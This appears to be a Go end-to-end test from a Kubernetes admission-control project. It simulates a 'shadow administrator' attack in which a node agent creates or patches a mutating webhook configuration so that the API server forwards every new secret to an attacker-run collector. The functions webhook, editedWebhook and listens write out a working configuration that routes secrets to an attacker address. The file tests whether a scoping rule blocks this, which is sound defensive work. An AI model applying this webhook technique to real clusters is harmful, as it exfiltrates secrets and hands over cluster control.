// Copyright The Bulkhead Authors
// SPDX-License-Identifier: Apache-2.0

package attacks_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/bulkhead-k8s/bulkhead/e2e/fixtures"
	. "github.com/bulkhead-k8s/bulkhead/e2e/framework"
)

var (
	mutatingWebhooks = admissionregistrationv1.SchemeGroupVersion.WithResource("mutatingwebhookconfigurations")
	mayEditWebhooks  = []rbacv1.PolicyRule{
		right(admissionregistrationv1.GroupName, []string{"get", "create", "patch"}, mutatingWebhooks.Resource),
	}
)

var _ = tell(Story{
	ID: "T13", Title: "A node agent makes itself an admission webhook: the shadow administrator",
	Source: "Unit 42, GKE Autopilot vulnerabilities (2022); rbac-police control_webhooks",
	Effect: "The ClusterRole of the agent has patch or create on webhook configurations. The API server then sends " +
		"every object that is written, secrets too, to the attacker, who may change it.",
	Stops: "With *.admissionregistration.k8s.io in its scope, an account writes no webhook configuration: a node " +
		"has no such right.",
	Attempts: []Attempt{
		{
			Name: "editing a webhook that exists", Effect: "the API server sends a new secret to the attacker",
			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
			Prepare: func(ctx context.Context, r *Run) {
				listens(ctx, r)
				existing := webhook(ctx, r, "https://127.0.0.1:9/inject", "pods/ephemeralcontainers")
				r.Put(ctx, existing)
				r.Names["webhook"] = existing.Name
			},
			Attack: sends(func(r *Run) Request { return editedWebhook(r).Stored() }),
			Show:   collects,
			TwinIs: byOtherAccount, TwinRule: Behind, Twin: byUnscoped(mayEditWebhooks, editedWebhook),
		},
		{
			Name: "creating a webhook", Effect: "the API server sends a new secret to the attacker",
			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
			Prepare: listens,
			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
				created := webhook(ctx, r, r.Names["collector"], "secrets")
				DeferCleanup(func(ctx context.Context) error {
					err := r.Objects.Delete(ctx, created)
					return ignoreNotFound(err)
				})
				return r.Send(ctx, who, Create(mutatingWebhooks).With(created).Stored())
			},
			Show:   collects,
			TwinIs: byOtherAccount, TwinRule: Behind,
			Twin: byUnscoped(mayEditWebhooks, func(r *Run) Request {
				return Create(mutatingWebhooks).With(webhook(context.Background(), r, r.Names["collector"], "secrets"))
			}),
		},
	},
})

// editedWebhook is a patch of the existing webhook: it then gets every new secret, at the attacker's address.
func editedWebhook(r *Run) Request {
	edited := webhook(context.Background(), r, r.Names["collector"], "secrets")
	return Patch(mutatingWebhooks).Named(r.Names["webhook"]).With(fields{"webhooks": edited.Webhooks})
}

// webhook returns a configuration for one resource in the namespace of the spec.
func webhook(ctx context.Context, r *Run, url, resource string) *admissionregistrationv1.MutatingWebhookConfiguration {
	return &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: r.NewName("e2e-shadow")},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name:         "inject.example.com",
			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: []byte(r.Names["ca"])},
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"},
					Resources: []string{resource}},
			}},
			NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{
				corev1.LabelMetadataName: r.Namespace(ctx)}},
			SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone), AdmissionReviewVersions: []string{"v1"},
			FailurePolicy: ptr.To(admissionregistrationv1.Fail), TimeoutSeconds: ptr.To[int32](5),
		}},
	}
}

// listens starts the attacker's server on the worker, with a certificate that the attacker made: the
// webhook names its CA. With protection, or without access to hosts, no server is at the address.
func listens(ctx context.Context, r *Run) {
	GinkgoHelper()
	r.Namespace(ctx)
	r.Names["collector"] = "https://127.0.0.1:9/collect"
	if r.Protected || suite.Host.Missing() != "" {
		return
	}
	server := serves(ctx, r)
	r.Names["collector"], r.Names["ca"] = "https://"+server.Address+"/collect", string(server.CA)
	r.Names["listener"] = server.Pod.Name
}

// collects expects that a new secret arrives at the attacker's server. Without a server, the API server
// reports the address in its error.
func collects(ctx context.Context, r *Run, _ Answer) {
	GinkgoHelper()
	namespace, arrives := r.Namespace(ctx), base64.StdEncoding.EncodeToString([]byte(word))
	if r.Names["listener"] == "" {
		arrives = r.Names["collector"]
	}
	Eventually(ctx, func() (string, error) {
		_, err := r.Client.CoreV1().Secrets(namespace).Create(ctx, fixtures.Secret(namespace, r.NewName("any")),
			metav1.CreateOptions{})
		if r.Names["listener"] == "" {
			return fmt.Sprint(err), nil
		}
		log, err := r.Client.CoreV1().Pods(namespace).GetLogs(r.Names["listener"], &corev1.PodLogOptions{}).DoRaw(ctx)
		return string(log), err
	}).WithTimeout(Soon).WithPolling(time.Second).Should(ContainSubstring(arrives))
	r.Say("The API server has sent a new secret of the namespace to %s.", r.Names["collector"])
}
